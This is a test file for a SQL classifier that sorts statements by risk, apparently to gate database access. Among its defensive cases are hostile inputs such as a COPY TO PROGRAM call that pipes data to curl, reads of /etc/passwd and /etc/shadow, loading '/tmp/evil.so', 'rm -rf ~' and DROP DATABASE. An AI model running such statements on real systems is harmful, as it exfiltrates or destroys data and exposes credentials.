import { describe, expect, it } from 'vitest';
import { classifySql, stricterClass, type SqlClass } from '../../src/sql/classify.js';
import type { SqlDialect } from '../../src/sql/parser.js';

const expectClass = (sql: string, expected: SqlClass, dialect: SqlDialect = 'postgresql') =>
  expect(classifySql(sql, dialect).class, sql).toBe(expected);

describe('SQL classifier: read-only statements', () => {
  it.each([
    'SELECT id, name FROM accounts WHERE owner = 7 ORDER BY name LIMIT 20',
    'select count(*)::int from orders',
    "SELECT table_name FROM information_schema.tables WHERE table_schema = 'public'",
    'SELECT c.relname FROM pg_catalog.pg_class c WHERE pg_catalog.pg_table_is_visible(c.oid)',
    'EXPLAIN SELECT * FROM orders',
    'EXPLAIN DELETE FROM orders',
    'EXPLAIN (ANALYZE, BUFFERS) SELECT 1',
    'SHOW search_path',
    'SET statement_timeout = 5000',
    'BEGIN; SELECT 1; COMMIT',
    'COPY (SELECT id FROM orders) TO STDOUT',
    "SELECT 'drop table x; delete from y' AS text",
    '/* DROP TABLE hidden */ SELECT 1 -- ; DELETE FROM t',
  ])('%s → read', (sql) => expectClass(sql, 'read'));

  it.each([
    ['DESCRIBE invoices', 'mysql'],
    ['SHOW TABLES', 'mysql'],
    ['SELECT `a` FROM `weird table`', 'mysql'],
    ['PRAGMA table_info(notes)', 'sqlite'],
    ["SELECT name FROM sqlite_master WHERE type = 'table'", 'sqlite'],
  ] as const)('%s (%s) → read', (sql, dialect) => expectClass(sql, 'read', dialect));

  it('psql and sqlite3 listing commands read', () => {
    expectClass('\\dt\nSELECT 1', 'read');
    expectClass('.tables', 'read', 'sqlite');
  });
});

describe('SQL classifier: row writes, schema changes, administration', () => {
  it.each([
    ['INSERT INTO notes (body) VALUES ($1) RETURNING id', 'row-write'],
    ['UPDATE orders SET state = 2 WHERE id = 4', 'row-write'],
    ['DELETE FROM sessions WHERE expires < now()', 'row-write'],
    ['MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a', 'row-write'],
    ["COPY orders FROM '/tmp/orders.csv'", 'row-write'],
    ['WITH gone AS (DELETE FROM t RETURNING *) SELECT * FROM gone', 'row-write'],
    ['EXPLAIN ANALYZE DELETE FROM orders', 'row-write'],
    ["SELECT nextval('order_ids')", 'row-write'],
    ['CREATE TABLE ledger (id int primary key)', 'schema'],
    ['ALTER TABLE ledger ADD COLUMN note text', 'schema'],
    ['DROP TABLE ledger', 'schema'],
    ['TRUNCATE ledger', 'schema'],
    ['GRANT ALL ON ledger TO intern', 'admin'],
    ['CREATE ROLE intern LOGIN', 'admin'],
    ['CREATE EXTENSION dblink', 'admin'],
    ['DROP DATABASE production', 'admin'],
    ['ALTER SYSTEM SET fsync = off', 'admin'],
    ['SET session_replication_role = replica', 'admin'],
    ["COPY t TO PROGRAM 'curl -d @- http://x'", 'admin'],
    ["COPY t TO '/var/lib/postgresql/out'", 'admin'],
    ['VACUUM FULL', 'admin'],
    ['DO $$ BEGIN PERFORM 1; END $$', 'admin'],
  ] as const)('%s → %s', (sql, expected) => expectClass(sql, expected));

  it.each([
    ["SELECT pg_read_file('/etc/passwd')", 'admin'],
    ["SELECT lo_import('/etc/shadow')", 'admin'],
    ["SELECT dblink_exec('host=elsewhere', 'DROP TABLE t')", 'admin'],
    ['SELECT pg_sleep(60)', 'admin'],
    ["SELECT load_extension('/tmp/evil.so')", 'admin'],
    ['SELECT purge_everything()', 'unknown'],
  ] as const)('a side effect hidden in a SELECT: %s → %s', (sql, expected) => expectClass(sql, expected));

  it('MySQL: INTO OUTFILE writes a server file; SET GLOBAL is administration', () => {
    expectClass("SELECT * FROM users INTO OUTFILE '/tmp/u'", 'admin', 'mysql');
    expectClass('SET GLOBAL general_log = 1', 'admin', 'mysql');
  });

  it('SQLite: ATTACH opens another database file; a setting pragma is administration', () => {
    expectClass("ATTACH DATABASE '/tmp/other.db' AS other", 'admin', 'sqlite');
    expectClass('PRAGMA writable_schema = 1', 'admin', 'sqlite');
  });
});

describe('SQL classifier: several statements and hiding places', () => {
  it('the strictest statement decides', () => {
    const r = classifySql('SELECT 1; DROP TABLE accounts');
    expect(r.class).toBe('schema');
    expect(r.statements.map((s) => s.kind)).toEqual(['select', 'drop table']);
  });

  it('a semicolon inside a literal or a dollar quote does not end a statement', () => {
    expect(classifySql("SELECT 'a;b'; SELECT 2").statements).toHaveLength(2);
    expect(classifySql('SELECT $tag$ ; DROP TABLE t; $tag$').class).toBe('read');
  });

  it('MySQL executable comments and unclosed literals are unknown, never read', () => {
    expectClass('/*! DROP TABLE t */ SELECT 1', 'unknown', 'mysql');
    // The mysql client: `--` before a non-space is no comment, and a backslash outside a literal is its command.
    expectClass('SELECT 1 --\\! touch /tmp/x', 'unknown', 'mysql');
    expectClass('SELECT 1 \\! touch /tmp/x', 'unknown', 'mysql');
    expectClass('SELECT 1 -- \\! a comment', 'read', 'mysql');
    expectClass('SHOW TABLES\\G SELECT 1\\g', 'read', 'mysql');
    expectClass('source dump.sql', 'unknown', 'mysql');
    expectClass("SELECT 'a\\'; DROP TABLE t; --'", 'unknown', 'mysql');
    expectClass('SELECT 1 /* open', 'unknown');
  });

  it('client commands that run programs or files are unknown', () => {
    expectClass('\\! rm -rf ~', 'unknown');
    expectClass('\\copy t from program "x"', 'unknown');
    expectClass('.shell ls', 'unknown', 'sqlite');
  });

  it('DELETE and UPDATE without WHERE say so', () => {
    expect(classifySql('DELETE FROM t').statements[0]!.everyRow).toBe(true);
    expect(classifySql('DELETE FROM t WHERE id = 1').statements[0]!.everyRow).toBeUndefined();
  });

  it('unparseable text, empty text and oversized text are unknown', () => {
    expectClass('SELEKT * FRUM t', 'unknown');
    expectClass('  -- only a comment', 'unknown');
    expectClass(`SELECT 1 ${'+ 1 '.repeat(20_000)}`, 'unknown');
    expectClass('SELECT 1;'.repeat(300), 'unknown');
  });

  it('stricterClass orders read < row-write < schema < admin < unknown', () => {
    expect(stricterClass('read', 'schema')).toBe('schema');
    expect(stricterClass('admin', 'row-write')).toBe('admin');
    expect(stricterClass('admin', 'unknown')).toBe('unknown');
  });
});
